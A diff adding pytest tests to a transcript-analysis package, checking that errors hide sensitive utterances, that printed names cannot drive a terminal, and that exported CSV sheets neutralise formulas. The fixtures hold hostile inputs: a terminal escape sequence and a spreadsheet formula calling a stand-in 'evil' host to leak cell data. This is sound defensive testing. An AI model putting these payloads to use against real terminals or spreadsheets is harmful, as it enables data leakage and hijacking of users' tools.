@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import logging
@@ -18,7 +19,7 @@ import pytest
 
 from conftest import EXAMPLES
 from reflectkit import Transcript, TranscriptError, analyze, analyze_many, read_transcript
-from reflectkit.cli import main
+from reflectkit.cli import main, output
 
 WORD = "xanthippe"
 SAID = f"I told them that {WORD} was the one who rang me on the night it went wrong"
@@ -195,3 +196,47 @@ def test_the_sources_open_no_connection_and_load_no_pickle():
                 continue  # the one door for a file its owner trusts: load_model(path, trust=True)
             assert call not in source, f"{path.name}: {call}"
     assert tempfile.tempdir is None or Path(tempfile.tempdir).exists()
+
+
+@pytest.mark.parametrize(
+    "options", [{"speaker": "said", "text": "who"}, {"speaker": "who", "text": "said", "session": "said"}]
+)
+def test_a_wrong_column_tells_none_of_the_words(options):
+    said = ("I want to die", "tell me more", "I want to die", "tell me more", "he raped me")
+    rows = [{"who": ("Ana", "Bo")[i % 2], "said": words} for i, words in enumerate(said)]
+    with pytest.raises(TranscriptError) as caught:
+        read_transcript(rows, columns=options)
+    assert not [words for words in said if words in str(caught.value)]
+
+
+def test_nothing_that_is_printed_drives_a_terminal(tmp_path, capsys, monkeypatch):
+    """Names may hold what sets a window's title or writes the clipboard; our own colours stay."""
+    evil = "n\x1b]0;PWN\x07\x9b2J\u202e"
+    monkeypatch.setattr(output, "is_terminal", lambda stream: True)
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    output.show(output.title("Title") + f"\nSession {evil}\twords\n")
+    output.complain(f"{evil}.csv: there are no turns in it.")
+    printed = capsys.readouterr()
+    assert printed.out == "\x1b[1mTitle\x1b[0m\nSession n\\x1b]0;PWN\\x07\\x9b2J\\u202e\twords\n"
+    assert "\x1b]" not in printed.err
+    assert "\x07" not in printed.err
+    monkeypatch.setattr(output, "is_terminal", lambda stream: False)
+    output.show(evil)
+    assert capsys.readouterr().out == evil
+
+
+def test_coding_sheets_run_no_formulas_and_keep_their_offsets(tmp_path):
+    from reflectkit.learn import write_sheets
+    from reflectkit.learn.corpus import read_table
+
+    said = ('=HYPERLINK("http://evil/?"&A1,"open")', "@SUM(1+1)*cmd", "+1 for that. How was it?")
+    talk = read_transcript(
+        [("-Worker", said[0]), ("Client", said[1]), ("-Worker", said[2])], worker="-Worker", client="Client"
+    )
+    write_sheets([talk], tmp_path)
+    for table in ("turns.csv", "utterances.csv"):
+        with (tmp_path / table).open(newline="") as handle:
+            assert not [cell for row in csv.reader(handle) for cell in row if cell[:1] in "=+-@" and cell]
+    assert [row["text"] for row in read_table(tmp_path, "turns.csv")] == list(said)
+    for row in read_table(tmp_path, "utterances.csv"):
+        assert row["text"] in said[0] + said[2]
